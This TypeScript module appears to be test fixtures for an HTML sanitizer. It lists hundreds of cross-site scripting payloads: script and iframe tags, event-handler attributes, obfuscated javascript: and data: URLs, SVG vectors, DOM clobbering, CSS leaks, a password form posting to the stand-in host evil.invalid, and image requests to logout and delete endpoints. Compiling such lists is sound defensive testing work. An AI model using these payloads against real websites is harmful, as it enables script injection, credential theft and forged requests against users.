/** Attacks by tags, attributes, addresses and drawings. `ran(...)` is what must never be called. */
export const tags: readonly string[] = [
  '<script>ran(1)</script>', '<SCRIPT SRC=//evil.invalid/a.js></SCRIPT>', '<scr<script>ipt>ran(1)</scr</script>ipt>', '<script/xss src=//evil.invalid/b.js></script>',
  '<script\n>ran(1)</script\n>', '<script>ran(1)', '<<script>ran(1);//<</script>', '<script type=module>ran(1)</script>', '<script type=text/vbscript>ran(1)</script>',
  '<script defer src="data:text/javascript,ran(1)"></script>', '<noscript><p title="</noscript><img src=x onerror=ran(1)>">', '<iframe src="javascript:ran(1)"></iframe>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>', '<iframe src=//evil.invalid></iframe>', '<frameset><frame src="javascript:ran(1)"></frameset>',
  '<object data="javascript:ran(1)"></object>', '<object data="data:text/html,<script>ran(1)</script>"></object>', '<embed src="javascript:ran(1)">',
  '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=ran(1)>">', '<applet code=ran></applet>', '<base href="//evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=javascript:ran(1)">', '<meta http-equiv="Set-Cookie" content="a=b">', '<link rel=stylesheet href=//evil.invalid/a.css>',
  '<link rel=prefetch href=//evil.invalid/p>', '<link rel=import href=//evil.invalid/i>', '<style>body{display:none}</style>', '<style>@import "//evil.invalid/a.css";</style>',
  '<style>*{background:url(//evil.invalid/leak)}</style>', '<form action="javascript:ran(1)"><input type=submit></form>', '<form action=//evil.invalid><input name=password type=password></form>',
  '<input autofocus onfocus=ran(1)>', '<input type=image src=x onerror=ran(1)>', '<button onclick=ran(1) autofocus>Login</button>', '<button formaction="javascript:ran(1)">x</button>',
  '<button data-copy-code="">Login</button>', '<button data-open-pdf="//evil.invalid/a.pdf">Open</button>', '<select autofocus onfocus=ran(1)></select>', '<textarea autofocus onfocus=ran(1)></textarea>',
  '<keygen autofocus onfocus=ran(1)>', '<isindex action="javascript:ran(1)">', '<marquee onstart=ran(1)>x</marquee>', '<blink onclick=ran(1)>x</blink>', '<layer src=//evil.invalid></layer>',
  '<xml onreadystatechange=ran(1)>', '<template><img src=x onerror=ran(1)></template>', '<slot name=x></slot>', '<custom-part onclick=ran(1)>x</custom-part>', '<portal src=//evil.invalid></portal>',
  '<dialog open><h1>Sign in again</h1></dialog>', '<div popover id=p>x</div><button popovertarget=p>x</button>', '<plaintext><img src=x onerror=ran(1)>', '<listing><img src=x onerror=ran(1)></listing>',
  '<xmp><img src=x onerror=ran(1)></xmp>', '<title><img src=x onerror=ran(1)></title>', '<body onload=ran(1)>', '<html onmouseover=ran(1)>', '<head><script>ran(1)</script></head>',
]

const events = [
  'load', 'error', 'click', 'mouseover', 'mouseenter', 'focus', 'blur', 'animationstart', 'animationend', 'transitionend', 'toggle', 'beforetoggle', 'pointerenter', 'pointerrawupdate',
  'wheel', 'copy', 'paste', 'scroll', 'scrollend', 'auxclick', 'contextmenu', 'dragstart', 'beforeinput', 'invalid', 'securitypolicyviolation', 'webkitanimationstart',
]

export const attributes: readonly string[] = [
  ...events.map((event) => `<b on${event}=ran(1)>${event}</b>`),
  '<img src=x onerror=ran(1)>', '<img src=x onerror="ran(1)"//>', '<img/src=x/onerror=ran(1)>', '<img src=x OnErRoR=ran(1)>', '<img src=x onerror\n=ran(1)>', '<img src=x onerror=\u0001ran(1)>',
  '<img src="x" onerror="&#114;an(1)">', "<img src='x'onerror='ran(1)'>", '<img """><script>ran(1)</script>">', '<img src=x:x onerror=ran(1)>', '<img srcset="x 1x, //evil.invalid/s 2x" src=x>',
  '<img src=x onerror=ran`1`>', '<img lowsrc="javascript:ran(1)">', '<img dynsrc="javascript:ran(1)">', '<img src=x usemap=#m><map name=m><area href="javascript:ran(1)"></map>',
  '<details open ontoggle=ran(1)><summary>x</summary></details>', '<video src=x onerror=ran(1)></video>', '<video autoplay onloadstart=ran(1) src=//evil.invalid/a.mp4></video>',
  '<video poster="javascript:ran(1)" src=x></video>', '<video><source onerror=ran(1) src=x></video>', '<audio autoplay src=//evil.invalid/a.mp3 onplay=ran(1)></audio>', '<audio src="data:audio/wav,x" onerror=ran(1)></audio>',
  '<a href=# id=location>x</a>', '<a id=trial name=trial>x</a>', '<img name=cookie src=x>', '<p id=root>x</p>', '<form id=document><b name=forms></b></form>', '<a id=defaultView href=x:y>x</a>',
  '<div style="position:fixed;inset:0;background:red">x</div>', '<div style="position:absolute;top:0">x</div>', '<div style="background:url(//evil.invalid/bg)">x</div>', '<div style="width:expression(ran(1))">x</div>',
  '<div style="-moz-binding:url(//evil.invalid/x)">x</div>', '<div style="behavior:url(x.htc)">x</div>', '<div style="height:999999px">x</div>', '<div style="margin-top:-900em">x</div>', '<div style="width:100vw;height:100vh">x</div>',
  '<div style="list-style-image:url(//evil.invalid/l)">x</div>', '<div style="content:url(//evil.invalid/c)">x</div>', '<div style="color:red;}body{display:none">x</div>', '<p style="color:/**/var(--chakra-colors-fg);all:unset">x</p>',
  '<div class="css-abc123 dark chakra-dialog cm-editor lucide">x</div>', '<div class=dark>x</div>', '<div data-card=pdf data-open-pdf=x data-own data-fresh>x</div>', '<b contenteditable autofocus onfocus=ran(1)>x</b>',
  '<b tabindex=1 accesskey=x onclick=ran(1)>x</b>', '<b is=custom-part>x</b>', '<b nonce=x slot=x part=x>x</b>', '<td background="//evil.invalid/td">x</td>', '<table background="javascript:ran(1)"><tr><td>x</td></tr></table>',
  '<table><tr><td height=99999999>x</td></tr></table>', '<img src=x height=99999999>', '<td colspan=1000000 rowspan=1000000>x</td>', '<a href=x ping=//evil.invalid/ping>x</a>', '<a href=x target=_self download=x>x</a>',
  '<a href=x attributionsrc=//evil.invalid/a>x</a>', '<img src=x referrerpolicy=unsafe-url crossorigin=use-credentials>', '<p role=alertdialog aria-modal=true aria-label=Login>x</p>', '<b hidden inert>x</b>',
]

const scripts = [
  'javascript:ran(1)', 'JaVaScRiPt:ran(1)', ' javascript:ran(1)', 'java\tscript:ran(1)', 'java\nscript:ran(1)', '&#106;avascript:ran(1)', '&#x6A&#x61vascript:ran(1)', 'javascript&colon;ran(1)', 'javascript&#58;ran(1)',
  '\u0001javascript:ran(1)', 'javascript://%0aran(1)', 'vbscript:ran(1)', 'data:text/html,<script>ran(1)</script>', 'data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=', 'blob:http://trial.invalid/x',
  'file:///etc/passwd', 'filesystem:http://trial.invalid/x', 'view-source:javascript:ran(1)', 'feed:javascript:ran(1)', 'jar:javascript:ran(1)', 'livescript:ran(1)', 'intent://x#Intent;end', 'steam://run/1', 'ms-msdt:/x',
  'x-javascript:ran(1)', 'jav&#x0A;ascript:ran(1)', '\u00a0javascript:ran(1)', 'javascript\u200b:ran(1)', '/\\evil.invalid:javascript:ran(1)',
]

export const addresses: readonly string[] = [
  ...scripts.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">x</a>`),
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'ran(1)\'/>">', '<img src="data:text/html,<script>ran(1)</script>">', '<img src="/api/logout">', '<img src="//trial.invalid/api/discussion-like?did=1&toLike=true">',
  '<img src="/%61pi/logout"><img src="/./api/logout"><img src="/x/../api/admin/logout">', '<img src="http://trial.invalid/api/file/delete-md-img?fileId=1">', '<video src="/api/logout" preload=auto></video>',
]

export const drawings: readonly string[] = [
  '<svg onload=ran(1)>', '<svg><script>ran(1)</script></svg>', '<svg><script href="data:,ran(1)"/></svg>', '<svg><a href="javascript:ran(1)"><text y=20>x</text></a></svg>', '<svg><a xlink:href="javascript:ran(1)"><path d="M0 0"/></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:ran(1)"/><text>x</text></a></svg>', '<svg><set attributeName=onmouseover to=ran(1)></svg>', '<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>',
  '<svg><animatetransform onbegin=ran(1) attributeName=transform></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=ran(1) /></svg>#x"/></svg>', '<svg><use href="//evil.invalid/s.svg#x"></use></svg>',
  '<svg><image href="//evil.invalid/i" onerror=ran(1)></image></svg>', '<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>', '<svg><foreignobject><iframe src="javascript:ran(1)"></iframe></foreignobject></svg>',
  '<svg><style>*{fill:url(//evil.invalid/f)}</style></svg>', '<svg><style><img src=x onerror=ran(1)></style></svg>', '<svg><title><img src=x onerror=ran(1)></title></svg>', '<svg><desc><img src=x onerror=ran(1)></desc></svg>',
  '<svg><path d="M0 0" onclick=ran(1) filter="url(//evil.invalid/f)"/></svg>', '<svg width=99999em height=99999em><path d="M0 0"/></svg>', '<svg><feImage href="//evil.invalid/fe"/></svg>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>ran(1)</handler></svg>',
  '<svg><discard onbegin=ran(1)></svg>', '<svg/onload=ran(1)//', '<svg><textPath href="javascript:ran(1)">x</textPath></svg>',
]
